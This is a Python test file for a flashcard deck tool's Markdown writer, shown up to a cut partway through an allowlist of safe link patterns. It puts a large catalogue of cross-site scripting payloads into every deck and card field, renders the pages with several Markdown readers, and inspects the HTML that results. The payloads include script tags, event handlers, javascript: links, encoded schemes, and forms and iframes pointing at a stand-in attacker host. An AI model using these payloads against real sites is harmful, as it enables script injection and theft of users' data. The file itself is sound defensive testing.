"""Hostile texts on pages of the Markdown folder have no effect, in any renderer.

To try another text, add a line to `PAYLOADS`. Each is put into every field, and every page is rendered by GitHub's own
reader of Markdown, by markdown-it and by Python-Markdown, all with HTML allowed, and then read by an HTML parser.
"""

from __future__ import annotations

import functools
import re
import time
from typing import TYPE_CHECKING, Any, Final

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options
from hypothesis import given
from hypothesis import strategies as st
from markdown import Markdown
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

from cardpipe.cache.store import Cache
from cardpipe.figures.api import Drawing
from cardpipe.markup import scan
from cardpipe.model.card_label import card_label
from cardpipe.model.deck import (
    Card,
    CardKind,
    DeckSettings,
    Edition,
    EditionPart,
    Figure,
    Reference,
    Status,
    Subdeck,
    TagInfo,
)
from cardpipe.model.trust import EVERYBODY
from cardpipe.render.cached_card import completed
from cardpipe.render.card import CardRenderer
from cardpipe.text.nodes import MapNode
from cardpipe.text.positions import SourceFile, SourceText
from cardpipe.writers.api import Capabilities, MathForm, RenderedDeck, TextForm
from cardpipe.writers.markdown import WRITER
from cardpipe.writers.markdown.guard import TAGS, guarded
from cpu_time import assert_seconds_linear

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence

    from cardpipe.model.diagnostics import Finding
    from cardpipe.writers.api import FigureForm

LONG = "A" * 2100
IMG = "<img src=x onerror=alert(1)>"
ATTRIBUTES = "{: onclick=alert(1)}"

PAYLOADS: Final[Mapping[str, list[str]]] = {
    "raw HTML": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        IMG,
        "<img src=https://evil.test/pixel.png>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        "<iframe src=//evil.test></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=//evil.test>",
        "<base href=//evil.test>",
        "<link rel=stylesheet href=//evil.test/x.css>",
        "<meta http-equiv=refresh content=0;url=//evil.test>",
        "<style>*{background:url(//evil.test)}</style>",
        "<form action=//evil.test><input name=password><button>go</button></form>",
        "<details open ontoggle=alert(1)><summary>open</summary>text</details>",
        "<video src=x onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)></audio>",
        "<marquee onstart=alert(1)>text</marquee>",
        "<input autofocus onfocus=alert(1)>",
        "<textarea>words</textarea>",
        "<title>words</title>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<plaintext>words",
        "<xmp>words</xmp>",
        "<a href=javascript:alert(1)>text</a>",
        "<a href='https://evil.test' style=position:fixed>text</a>",
        "<div style=position:fixed;inset:0>cover</div>",
        "<custom-element onclick=alert(1)>text</custom-element>",
        "<x onclick=alert(1)>text</x>",
        "</details>after the fold",
        "</summary></details>after the fold",
        "</b></em></u>words",
        "<u>never closed",
        "</p><p>words",
        "</body></html>words",
        "<table><tr><td background=//evil.test>cell</td></tr></table>",
        "<details>another fold</details>",
        "<b>bold</b> and <em>emphasised</em>",
        "<frameset onload=alert(1)><frame src=//evil.test></frameset>",
        "<isindex action=javascript:alert(1) type=image>",
        "<picture><source srcset=//evil.test/i.png><img src=x></picture>",
        "<portal src=//evil.test></portal>",
        "<applet code=x></applet>",
        "<keygen autofocus onfocus=alert(1)>",
        "<dialog open>words</dialog>",
        "<select autofocus onfocus=alert(1)><option>one</option></select>",
    ],
    "split tags": [
        "<script\n>alert(1)</script\n>",
        "<script src=//evil.test/x.js",
        "<iframe src=//evil.test onload=alert(1)\n>",
        "<iframe title=< src=//evil.test>",
        "<style\n>*{background:url(//evil.test)}",
        "<form action=//evil.test\n>",
        "<base href=//evil.test\n>",
        "<p `\n<img src=x onerror=alert(1)>`",
        "<img\nsrc=x\nonerror=alert(1)>",
        "<img\tsrc=x\tonerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=x\n\nonerror=alert(1)>",
        "<img src='\n\n' onerror=alert(1)>",
        "text <img\n src=x\n onerror=alert(1)\n> text",
        "> <img src=x\n> onerror=alert(1)>",
        "> <script\nalert(1)\n> </script>",
        "- <script>\n\n  alert(1)\n\n  </script>",
        "<div\n\n<img src=x onerror=alert(1)>",
        "<<script>alert(1)</script>",
        "<<<img src=x onerror=alert(1)>>>",
        "<scr<script>ipt>alert(1)</script>",
        "<b><script>alert(1)</script></b>",
        "<br onclick=alert(1)>",
        "<br/onclick=alert(1)>",
        "<kbd onmouseover=alert(1)>key</kbd>",
        "<sub\nonclick=alert(1)>low</sub>",
        "<u/onclick=alert(1)>text</u>",
        "<u ><u><u\n>text</u></u></u>",
        "a\n<div onclick=alert(1)>\nb",
        "<img src=`x` onerror=alert(1)>",
        "`<img src=x` onerror=alert(1)>",
        "*<img src=x onerror=alert(1)>*",
        "**<b** onclick=alert(1)>",
        "<pre onclick=alert(1)>\n\n<script>alert(1)</script>\n\n</pre>",
        "<pre>\n```\n</pre><img src=x onerror=alert(1)>\n```",
    ],
    "comments and declarations": [
        "<!-- words --><img src=x onerror=alert(1)>",
        "<!-- words",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!---><img src=x onerror=alert(1)>-->",
        "<!-- `-->`<img src=x onerror=alert(1)>",
        "<!-->words",
        "<!doctype html>words",
        "<!X words",
        "<!ELEMENT br EMPTY>",
        "<?php echo 1; ?>words",
        "<?xml-stylesheet href='//evil.test'?>",
        "<? words",
        "<![CDATA[ <img src=x onerror=alert(1)> ]]>",
        "<![CDATA[ words",
        "<![endif]-->words",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "</ words>",
        "</!words>",
        "text <!-- a\n\nb --> words",
    ],
    "entities and escapes": [
        "\\<img src=x onerror=alert(1)>",
        "\\\\<img src=x onerror=alert(1)>",
        "\\\\\\<img src=x onerror=alert(1)>",
        "<\\script>alert(1)</script>",
        "&lt;img src=x onerror=alert(1)&gt;",
        "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3c;script>alert(1)",
        "&lt<script>alert(1)</script>",
        "&<img src=x onerror=alert(1)>;",
        "\\&lt;script>",
        "&#0;<img src=x onerror=alert(1)>",
        "[x](javascript&#58;alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
        "[x](java&Tab;script:alert(1))",
        "[x](java&NewLine;script:alert(1))",
        "[x](\\javascript:alert(1))",
        "[x](java\\script:alert(1))",
        "[x](javascript\\:alert(1))",
        "[x](jav%61script:alert(1))",
        "[x](&quot;onclick=alert(1))",
        "\\[x](javascript:alert(1))",
        "[x\\](javascript:alert(1))",
        "\\![x](https://evil.test/i.png)",
        "\\\\![x](https://evil.test/i.png)",
        "\\`<img src=x onerror=alert(1)>`",
        "`\\`<img src=x onerror=alert(1)>`",
        "`a``<img src=x onerror=alert(1)>`",
    ],
    "automatic links": [
        "<javascript:alert(1)>",
        "<data:text/html,<script>alert(1)</script>>",
        "<vbscript:msgbox(1)>",
        "<file:///etc/passwd>",
        "<https://evil.test/onclick=alert(1)>",
        "<https://evil.test/tabindex=1/autofocus/onfocus=alert(1)>",
        "<https://evil.test/style=position:fixed>",
        "<https://example.org/a_b_c*d*>",
        "<mailto:words@example.org>",
        "<words@example.org>",
        "<words@example.org/onclick=alert(1)>",
        "<http://a>" + IMG,
        "http://evil.test/?q=<img src=x onerror=alert(1)>",
        "http://evil.test/?q=\\<img src=x onerror=alert(1)>",
        "http://evil.test/?q=`<img src=x onerror=alert(1)>`",
        "www.evil.test/<img src=x onerror=alert(1)>",
        "words@example.org<img src=x onerror=alert(1)>",
        "ftp://evil.test/words",
        "xmpp:words@example.org",
        "mailto:words@example.org",
        "javascript:alert(1)",
        "//evil.test/words",
        "<x:y onclick=alert(1)>",
        "<a+b:words>",
    ],
    "link destinations": [
        "[x](https://trusted.example@evil.test/)",
        "[x](https://trusted.example%2F@evil.test/)",
        "<https://a:b@evil.test>",
        "[x][r]\n\n[r]: https://trusted.example@evil.test/",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript:alert((1)))",
        "[x](javascript:a(((((1))))))",
        "[x](<javascript:alert(1)>)",
        "[x](<java script:alert(1)>)",
        "[x]( javascript:alert(1) )",
        "[x](\njavascript:alert(1)\n)",
        "[x](\tjavascript:alert(1))",
        "[x](java\nscript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "[x](vbscript:msgbox(1))",
        "[x](file:///etc/passwd)",
        "[x](//evil.test)",
        "[x](\\\\evil.test\\share)",
        "[x](/absolute/path)",
        "[x](../../../elsewhere)",
        "[x](?query)",
        "[x](#javascript:alert(1))",
        "[x](ftp://evil.test)",
        "$ftp://evil.test/words$",
        "$xmpp:words@example.org$",
        "`<b> ftp://evil.test/words xmpp:words@example.org`",
        "[x](card:XX0000)",
        "[x](figure:f)",
        "[x]()",
        "[](javascript:alert(1))",
        "[ ](javascript:alert(1))",
        "[a [b](javascript:alert(1)) c](https://example.org)",
        "[a ![b](javascript:alert(1)) c](https://example.org)",
        "[![a](https://evil.test/i.png)](javascript:alert(1))",
        "[`](javascript:alert(1))`",
        '[x](javascript:alert(1) "title")',
        "[x](javascript:alert(1) 'title')",
        "[x](javascript:alert(1) (title))",
        '[x](https://example.org "title\\" onclick=alert(1)")',
        "[x](https://example.org 'a\" onclick=alert(1)')",
        '[x](https://example.org "<img src=x onerror=alert(1)>")',
        '[x](https://example.org "a\n\n<img src=x onerror=alert(1)>")',
        '[x](https://example.org"onclick=alert(1))',
        "[x](https://example.org'onclick=alert(1))",
        "[x](https://example.org/<img src=x onerror=alert(1)>)",
        '[x](<https://example.org/a b> "words")',
        "[x](https://example.org/(a(b)c))",
        "[x](https://example.org/&quot;&lt;words)",
        "[x](https://example.org/a|b)",
        "[x](mailto:words@example.org?body=<script>)",
        "[x] (javascript:alert(1))",
        "[x]\n(javascript:alert(1))",
        "[x](javascript:alert(1)",
        "[x](https:javascript:alert(1))",
        "[x](https:/evil.test)",
        "[x](HTTPS://example.org)",
        "[x](https://user:password@example.org)",
        "[[x]](javascript:alert(1))",
        "[x][javascript:alert(1)]",
        "[[javascript:alert(1)]]",
        "$[x](javascript:alert(1))$",
        "$$[x](javascript:alert(1))$$",
        "[$x$](javascript:alert(1))",
        "$a$[x](javascript:alert(1))$b$",
        "[x](javascript:alert(1)){target=_blank}",
        "[<img src=x onerror=alert(1)>](https://example.org)",
        "[<https://example.org>](javascript:alert(1))",
    ],
    "pictures": [
        "![x](https://evil.test/i.png)",
        "![x](//evil.test/i.png)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "![x](<https://evil.test/i.png>)",
        "![x](" + " " * 101 + "https://evil.test/i.png)",
        '![x](https://evil.test/i.png "title")',
        "![x](https://evil.test/(((i)))  .png)",
        "![r]\n\n[r]: https://evil.test/i.png",
        "![words][r]\n\n[r]: https://evil.test/i.png",
        "![r][]\n\n[r]: <https://evil.test/i.png> 'title'",
        "![words] [r]\n\n[r]: https://evil.test/i.png",
        "![a [b](https://example.org) c](https://evil.test/i.png)",
        "![a ![b](https://evil.test/1.png) c](https://evil.test/2.png)",
        "![a\nb](https://evil.test/i.png)",
        "![`a](https://evil.test/i.png)`",
        "![<img src=x onerror=alert(1)>](figure:f)",
        '!["onerror=alert(1)](figure:f)',
        "![a](figure:f)![b](figure:f)",
        "![a](figure:f){: onerror=alert(1)}",
        "![a](missing.png)",
        "![a](../assets/nothing.svg)",
        "![a](../assets/../../../elsewhere.svg)",
        "![a](assets/%2e%2e/elsewhere.svg)",
        "$![x](https://evil.test/i.png)$",
        "!<b></b>[x](https://evil.test/i.png)",
        "!\\[x](https://evil.test/i.png)",
    ],
    "definitions": [
        "[r]\n\n[r]: javascript:alert(1)",
        "[r]\n\n[r]:\njavascript:alert(1)",
        "[r]\n\n[r]: <javascript:alert(1)> 'title'",
        '[words][r]\n\n  [r]: javascript:alert(1)\n  "title"',
        "[words][R]\n\n[r]: java\\script:alert(1)",
        "[r]\n\n> [r]: javascript:alert(1)",
        "[r]\n\n- [r]: javascript:alert(1)",
        "[r]\n\n[r]: &#106;avascript:alert(1)",
        "[a\nb]\n\n[a\nb]: javascript:alert(1)",
        "[r]: javascript:alert(1)\n[r]",
        "[r]: https://example.org\n[r]: javascript:alert(1)\n\n[r]",
        '[r]\n\n[r]: https://example.org "<img src=x onerror=alert(1)>"',
        "[r]\n\n[r]: https://example.org '\" onclick=\"alert(1)'",
        "[r]\n\n[r]: //evil.test",
        "[r]\n\n[r]: data:text/html,<script>alert(1)</script>",
        "[r]\n\n    [r]: javascript:alert(1)",
        "[r]\n\n```\n[r]: javascript:alert(1)\n```",
        "- x\n\n  ```\n\n[r]: javascript:alert(1)\n\n  ```\n\n[r]",
        "[\\]]\n\n[\\]]: javascript:alert(1)",
        "[`]`]\n\n[`]`]: javascript:alert(1)",
        "[Answer]: javascript:alert(1)",
        "[x]\n===\n[x]: javascript:alert(1)",
        "words\n[r]: javascript:alert(1)\n\n[r]",
    ],
    "footnotes and abbreviations": [
        "words[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
        "words[^1]\n\n[^1]: [x](javascript:alert(1))",
        "words[^a]\n\n[^a]: words\n\n    <script>alert(1)</script>",
        "words[^<img>]\n\n[^<img>]: words",
        'words[^" onclick=alert(1)]\n\n[^" onclick=alert(1)]: words',
        "words[^1]\n\n[^1]: https://example.org",
        "words^[inline <img src=x onerror=alert(1)>]",
        "HTML\n\n*[HTML]: <script>alert(1)</script>",
        'HTML\n\n*[HTML]: words" onmouseover="alert(1)',
        "[^1]: never used",
        "words[^1]\n\n[^1]: ```\n[x](javascript:alert(1))",
        "words[^1]\n\n[^1]: words\\\n\n<script>alert(1)</script>",
        "words[^1]\n\n[^1]: words</small><img src=x onerror=alert(1)>",
        "words[^1]\n\n[^1]: <!-- words\n\n--> <img src=x onerror=alert(1)>",
        "words[^1]\n\n[^1]: [r]: javascript:alert(1)\n\n[r]",
        "words[^1] [r]\n\n[^1]:\n    [r]: javascript:alert(1)",
        "[words[^1]](javascript:alert(1))\n\n[^1]: words",
        "words![^1](https://evil.test/i.png)\n\n[^1]: words",
        "words[^1]{: onclick=alert(1)}\n\n[^1]: words {: onclick=alert(1)}",
        "words[^1]\n\n- x\n\n  [^1]: <img src=x onerror=alert(1)>",
        "words[^1]\n\n> [^1]: [x](javascript:alert(1))",
        "words[^1]\n\n[^1]: words\n[^1]: [x](javascript:alert(1))",
        "```\nwords\n\n[^1]: words",
        "[^1]: words\n\nwords[^1]\n\n```\n<img src=x onerror=alert(1)>",
        "[TOC]",
        "[TOC]\n\n# <img src=x onerror=alert(1)>\n\n## &lt;img src=x onerror=alert(1)&gt;",
    ],
    "attribute lists": [
        f"# heading {ATTRIBUTES}",
        f"heading {ATTRIBUTES}\n===",
        f"heading {ATTRIBUTES}\n---",
        f"*text*{ATTRIBUTES}",
        "**text**{onclick=alert(1)}",
        f"`code`{ATTRIBUTES}",
        f"`` code ` ``{ATTRIBUTES}",
        f"[x](https://example.org){ATTRIBUTES}",
        f"<u>text</u>{ATTRIBUTES}",
        f"text\n{ATTRIBUTES}",
        f"text  \n{ATTRIBUTES}",
        f"- item\n{ATTRIBUTES}",
        f"- item\n  {ATTRIBUTES}\n- item",
        f"> quote\n> {ATTRIBUTES}",
        f"| a | b |\n| - | - |\n| c {ATTRIBUTES} | d {{onclick=alert(1)}} |",
        f"term {ATTRIBUTES}\n: definition {ATTRIBUTES}",
        "*text*{style=position:fixed}",
        "*text*{ onclick='alert(1)' .class #id }",
        "*text*{.class}",
        "*text*\\{: onclick=alert(1)}",
        "*text*&#123;: onclick=alert(1)}",
        f"$a$ *text*{ATTRIBUTES}",
        f"$*a*{ATTRIBUTES}$",
        "$_x_{onclick=alert(1)}$",
        "_a $x_{onclick=alert(1)}$",
        "a _b_ $c_d_{onclick=alert(1)}$",
        "$a {onclick=alert(1)}\n: b$",
        "$a\n {onclick=alert(1)}\nb$",
        "$$\n*a*{onclick=alert(1)}\n$$",
        "- $$\n  x {onclick=alert(1)}\n  =\n  y\n  $$",
        "- $$\n  =\n  *a*{onclick=alert(1)}\n  $$",
        "> $$\n> x {onclick=alert(1)}\n> -\n> $$",
        "- item\n\n  ```\n  *a*{: onclick=alert(1)}\n\n  b\n  ```",
        "1. item\n\n   ```\n   # a {onclick=alert(1)}\n\n   b\n   ```",
        "`` $`_x_{onclick=alert(1)}`$",
        "\\`` a` `*x*{onclick=alert(1)}`",
        "    code {onclick=alert(1)}\n    ===",
        "text\n    # a {onclick=alert(1)}",
        "~~text~~{: onclick=alert(1)}",
        "<https://example.org>{: onclick=alert(1)}",
        "{: onclick=alert(1)}",
        '{::options parse_block_html="true" /}',
        "{::nomarkdown}<script>alert(1)</script>{:/}",
        "![a](figure:f){: onload=alert(1)}",
    ],
    "fences and code": [
        "```\n<img src=x onerror=alert(1)>\n```",
        "~~~\n<script>alert(1)</script>\n~~~",
        "```html\n<b>words</b>\n```",
        "```\n</code></pre><img src=x onerror=alert(1)>\n```",
        "```\n<!--\n```\n-->",
        "```<img src=x onerror=alert(1)>\n```",
        "```{onclick=alert(1)}\nwords\n```",
        "```{ .python onclick=alert(1) style=position:fixed }\nwords\n```",
        "~~~ {onclick=alert(1)}\nwords\n~~~",
        "``` js onclick=alert(1)\nwords\n```",
        '```" onclick="alert(1)\nwords\n```',
        '```js"onclick=alert(1)\nwords\n```',
        "~~~\n```{onclick=alert(1)}\nwords\n```\n~~~~",
        "````\n```\n<img src=x onerror=alert(1)>\n```\n````",
        "```\nwords\n````\n<img src=x onerror=alert(1)>\n```",
        "```\nwords\n  ```\n<img src=x onerror=alert(1)>",
        "  ```\n  <img src=x onerror=alert(1)>\n  ```",
        "- ```\n  <img src=x onerror=alert(1)>\n  ```",
        "- ```\n<img src=x onerror=alert(1)>\n  ```",
        "- a\n\n  ```html\n  <img src=x onerror=alert(1)>\n\n  <script>alert(1)</script>\n  ```\n- b",
        "> ```\n> <img src=x onerror=alert(1)>\n> ```",
        "> ```\n<img src=x onerror=alert(1)>\n> ```",
        "> ```\n> <img src=x onerror=alert(1)>",
        "1. a\n\n   ~~~\n   <script>alert(1)</script>",
        "```\n<img src=x onerror=alert(1)>",
        "```\nwords\n\n</details>\n<script>alert(1)</script>",
        "```math\n<img src=x onerror=alert(1)>\n```",
        "```math\na <b> c\n```",
        "- ```math\n  <img src=x onerror=alert(1)>\n\n  [x](javascript:alert(1))\n  ```",
        "    <img src=x onerror=alert(1)>",
        "    <img src=x onerror=alert(1)>\n\n\t<script>alert(1)</script>\n      deeper",
        "\t<img src=x onerror=alert(1)>",
        "- a\n\n      <img src=x onerror=alert(1)>\n\n- b",
        "-     <img src=x onerror=alert(1)>",
        ">     <img src=x onerror=alert(1)>",
        "> -     <img src=x onerror=alert(1)>\n>       <script>alert(1)</script>",
        "words\n    <img src=x onerror=alert(1)>",
        "`<img src=x onerror=alert(1)>`",
        "``<img src=x onerror=alert(1)>` ``",
        "`<img src=x\nonerror=alert(1)>`",
        "> `<img src=x\n> onerror=alert(1)>`",
        "`a\n<script>alert(1)</script>`",
        "`a\n\n<script>alert(1)</script>`",
        "`[x](javascript:alert(1))`",
        "`a`<img src=x onerror=alert(1)>`b`",
        "`` ` <img src=x onerror=alert(1)> ` ``",
        "`vector<int> a[b](c) && d | e`",
        "    [x](javascript:alert(1))",
        "```\n[x](javascript:alert(1))\n![y](https://evil.test/i.png)\n```",
        "- ```\n\n  [x](javascript:alert(1))\n\n  ```",
        "$`<img src=x onerror=alert(1)>`$",
        "$<img src=x onerror=alert(1)>$",
        "$$<img src=x onerror=alert(1)>$$",
        "$a<b>c$ and $x <y$",
        "$a `$<img src=x onerror=alert(1)>` b$",
        "$$\n\n<script>alert(1)</script>\n\n$$",
        "$$ <img src=x onerror=alert(1)>",
    ],
    "beyond bounds": [
        f'x <img alt="{LONG}" src=https://evil.test/i.png onerror=alert(1)>',
        f"x <img {'a ' * 2100}onerror=alert(1)>",
        f"x <img {'a=b ' * 2100}onerror=alert(1)>",
        f"<{LONG} onclick=alert(1)>",
        f"<a-{'b' * 200} onclick=alert(1)>",
        f'[x](javascript:alert(1) "{LONG}")',
        f"[x](javascript:alert(1) '{LONG}')",
        f"[x](javascript:alert(1) ({LONG}))",
        f"[x](javascript:{LONG})",
        f"[x](<javascript:{LONG}>)",
        f"[x]({' ' * 150}javascript:alert(1))",
        f"[x](javascript:alert(1){' ' * 150})",
        f"[x](javascript:{'(' * 30}1{')' * 30})",
        f"[{LONG}](javascript:alert(1))",
        f"[r]\n\n[r]:{' ' * 300}javascript:alert(1)",
        f"[r]\n\n[r]: javascript:{LONG}",
        f"![x](https://evil.test/{LONG}.png)",
        f"<javascript:{LONG}>",
        f"<!--{LONG}",
        f"<?{LONG}?>",
        f"`{LONG}<img src=x onerror=alert(1)>`",
        f"{'`' * 300}<img src=x onerror=alert(1)>{'`' * 299}",
        f"{'> ' * 30}<img src=x onerror=alert(1)>",
        f"{'- ' * 30}<img src=x onerror=alert(1)>",
        f"{'  ' * 40}<img src=x onerror=alert(1)>",
    ],
    "tables": [
        "| a | b |\n| - | - |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
        "| `a | b` |\n| - | - |\n| `<img src=x | onerror=alert(1)>` |",
        "| a |\n| - |\n| `<b>\\|<i>` |",
        "| a |\n| - |\n| `a \\| <img src=x onerror=alert(1)>` |",
        "| <script> | b |\n| - | - |\n| </script> | c |",
        "| a | b |\n| - | - |\n<script>alert(1)</script>",
        "| a | b |\n| - | - |\n| $<img src=x | onerror=alert(1)>$ |",
        "a | <img src=x onerror=alert(1)>\n- | -\nb | c",
        "a <img src=x\n| - |\n onerror=alert(1)>",
        "| a |\n| :-: |\n| ![x](https://evil.test/i.png) |",
        "x | y | z\n--|--|--\n`a|b` | <img src=x onerror=alert(1)>",
    ],
    "blocks": [
        "words\n<script>alert(1)</script>\nwords",
        "words <script>\n===\nalert(1)</script>",
        "<div>\n===\n</div>",
        "<img src=x\n===\nonerror=alert(1)>",
        "- a\n\n        <img src=x onerror=alert(1)>",
        "- a\n\n        <img src=x onerror=alert(1)>\n- b",
        "- a\n  <script>\n- alert(1)",
        "* * <img src=x onerror=alert(1)>",
        "1) <img src=x onerror=alert(1)>",
        "-\t<img src=x onerror=alert(1)>",
        "-\n\n  <img src=x onerror=alert(1)>",
        "# <img src=x onerror=alert(1)>",
        "# [x](javascript:alert(1)) #",
        "> words\n<script>alert(1)</script>",
        "> [!NOTE]\n> <img src=x onerror=alert(1)>",
        "- [ ] <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
        "***\n<script>alert(1)</script>",
        "words\\\n<img src=x onerror=alert(1)>",
        "words  \n<img src=x onerror=alert(1)>",
        "<kbd>\n*words*\n</kbd>\n[x](javascript:alert(1))",
        "<u>\n\n[x](javascript:alert(1))\n\n</u>",
        "term\n: <img src=x onerror=alert(1)>",
        "/// details | words\n<img src=x onerror=alert(1)>\n///",
        '!!! note "<img src=x onerror=alert(1)>"\n    [x](javascript:alert(1))',
        "::: {onclick=alert(1)}\nwords\n:::",
        "==<img src=x onerror=alert(1)>==",
        "---\ntitle: <img src=x onerror=alert(1)>\n---",
        ":smile:<img src=x onerror=alert(1)>",
        "{{c1::<img src=x onerror=alert(1)>::hint}}",
        "{{c1::a::[x](javascript:alert(1))}}",
        "{{c1::`<b>`}} {{c2::$<b>$}}",
    ],
    "characters": [
        "<\x02script>alert(1)</script>",
        "<\x00img src=x onerror=alert(1)>",
        "]\x02(javascript:alert(1))[x]\x03(javascript:alert(1))",
        "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03",
        "<\u200bscript>alert(1)</script>",
        "<img\u00a0src=x onerror=alert(1)>",
        "<img\x0csrc=x\x0conerror=alert(1)>",
        "<img\x0bsrc=x onerror=alert(1)>",
        "[x](\x01javascript:alert(1))",
        "[x](java\u00adscript:alert(1))",
        "[x](\u00a0javascript:alert(1))",
        "[x](\u3000javascript:alert(1))",
        "[x](\x1fjavascript:alert(1))",
        "words\r<script>alert(1)</script>",
        "[r]\r\r[r]: javascript:alert(1)",
        "words\u2028<script>alert(1)</script>",
        "\ufeff<script>alert(1)</script>",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "<\u017fcript>alert(1)</script>",
        "\x1b]8;;javascript:alert(1)\x07words\x1b]8;;\x07",
    ],
}

# --- Decks -----------------------------------------------------------------------------------------------------------

FILE = SourceFile("source/cards/ML0001.yaml", "x" * 100)
FORM = Capabilities(text=TextForm.MARKDOWN, math=MathForm.TEX)


class _Squares:
    name = "squares"
    summary = "Squares."
    fields = ()

    def check(self, _figure: Figure, _values: Mapping[str, Any], _settings: DeckSettings) -> Sequence[Finding]:
        return ()

    def inputs(self, _values: Mapping[str, Any], _settings: DeckSettings) -> Sequence[bytes]:
        return (b"input",)

    def draw(self, _values: Mapping[str, Any], _settings: DeckSettings, _form: FigureForm) -> Drawing:
        return Drawing(b"<svg/>", "image/svg+xml", 320.0, 200.0)


def _text(value: str) -> SourceText:
    return SourceText.inline(value)


def _figure(alt: str, caption: str) -> Figure:
    parameters = MapNode((), FILE, 0, 1)
    return Figure(
        id=_text("f"),
        kind=_text("squares"),
        alt=_text(alt),
        caption=_text(caption),
        parameters=parameters,
        span=FILE.span(0, 1),
    )


def _card(number: int, **fields: Any) -> Card:
    values: dict[str, Any] = {
        "id": _text(f"ML{number:04}"),
        "title": _text("A title"),
        "kind": CardKind.BASIC,
        "question": _text("What?"),
        "answer": _text("This."),
        "details": None,
        "figures": (),
        "tags": (),
        "related": (),
        "references": (),
        "difficulty": None,
        "status": Status.ACTIVE,
        "file": FILE,
        "span": FILE.span(0, 1),
    }
    return Card(**{**values, **fields})


def _cards(payloads: Iterable[str]) -> Iterator[Card]:
    """Three cards for a payload: one for each long text beside others, so that each is tried alone too."""
    for index, payload in enumerate(payloads):
        hostile = _text(payload)
        number = 3 * index + 1
        yield _card(number, details=hostile)
        yield _card(number + 1, question=hostile, answer=hostile, kind=CardKind.CLOZE)
        yield _card(
            number + 2,
            title=hostile,
            answer=_text(f"- item\n\n  {payload}"),
            details=_text("![alt](figure:f)"),
            figures=(_figure(payload, payload),),
            tags=(hostile,),
            related=(_text(f"ML{number + 2:04}"), _text("XX0001")),
            references=(
                Reference(text=hostile, url=_text("https://example.org/a(b)c")),
                Reference(text=_text("words"), url=hostile),
                Reference(text=hostile, url=_text(f"https://example.org/{payload}")),
            ),
        )


def _deck(payload: str = "words") -> DeckSettings:
    hostile = _text(payload)
    edition = Edition(
        name=_text("edition"),
        title=hostile,
        tags=(),
        ids=(),
        without=(),
        difficulty=(),
        parts=frozenset(EditionPart),
        link=None,
    )
    return DeckSettings(
        uid=_text("5b0f6c1e-8a52-4a57-9d5e-0c9a2f6f3c11"),
        slug=_text("deck"),
        name=hostile,
        language=hostile,
        authors=(hostile, _text("Ada")),
        licence=hostile,
        description=hostile,
        homepage=hostile,
        report=_text(f"https://example.org/{{id}}{payload}"),
        tags=(TagInfo(hostile, hostile),),
        subdecks=(Subdeck(_text("ML"), hostile),),
        formats=(),
        format_options={},
        media=(),
        scripts=(),
        file=FILE,
        edition=edition,
    )


def _pages(settings: DeckSettings, cards: Sequence[Card]) -> dict[str, str]:
    """The pages of a deck, by their paths, as rendering and writing make them; lint is not asked."""
    renderer = CardRenderer(settings, FORM, Cache.disabled(), lambda _name: _Squares(), EVERYBODY)
    titles = {card.id.text: card_label(card) for card in cards}
    made = tuple(
        completed(renderer.card(card), {**titles, "XX0001": card_label(cards[-1])}, set(titles)) for card in cards
    )
    rendered = RenderedDeck(settings=settings, cards=made, assets=renderer.assets, description=renderer.description())
    renderer.close()
    files = WRITER.write(rendered, {}, lambda _done, _total: None)
    return {file.path: file.data.decode() for file in files if file.path.endswith(".md")}


# --- What readers make of a page -------------------------------------------------------------------------------------

_MARKDOWN_IT = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


@functools.cache
def _python_markdown(*extensions: str) -> Markdown:
    return Markdown(extensions=list(extensions))


def _github(page: str) -> str:
    return str(cmarkgfm.github_flavored_markdown_to_html(page, Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_FOOTNOTES))


READERS: Final[Mapping[str, Callable[[str], str]]] = {
    "cmark-gfm": _github,
    "markdown-it": _MARKDOWN_IT.render,
    "Python-Markdown": lambda page: _python_markdown("extra", "toc", "attr_list").reset().convert(page),
    "Python-Markdown alone": lambda page: _python_markdown().reset().convert(page),
}

ELEMENTS: Final = TAGS | {
    *("html", "head", "body", "h1", "h2", "h3", "h4", "h5", "h6", "p", "a", "img", "strong", "code", "pre"),
    *("ul", "ol", "li", "blockquote", "table", "thead", "tbody", "tr", "th", "td", "hr", "details", "summary"),
    *("dl", "dt", "dd", "i"),
}
SAFE: Final[Mapping[str, Mapping[str, str]]] = {
    "a": {
        "href": r"(?:https?://(?![^/?#]*@)|mailto:)[^\s\"<>]+|[A-Z]{2}[0-9]{4}\.md|"
        r"(?:\.\./)?(?:cards|tags|assets)/[\w.%~-]+|"
        # GitHub's reader takes some signs before a mail address for its scheme, and Python-Markdown alone reads code.
